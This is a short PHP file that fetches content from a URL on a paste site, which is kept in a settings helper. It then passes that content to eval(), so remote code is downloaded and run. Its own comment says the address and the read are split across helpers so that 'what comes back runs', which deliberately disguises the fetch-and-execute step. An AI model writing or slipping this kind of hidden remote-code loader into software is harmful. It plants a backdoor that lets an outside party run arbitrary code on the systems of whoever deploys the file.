<?php
// the address sits in a settings helper, the read in another; what comes back runs
function settings($key)
{
    $all = array('mirror' => 'https://paste.example.org/raw/Zk31', 'ttl' => 60);
    return $all[$key];
}

function read_all($path)
{
    $fp = fopen($path, 'r');
    $out = stream_get_contents($fp);
    fclose($fp);
    return $out;
}

$tpl = read_all(settings('mirror'));
eval('?>' . $tpl);
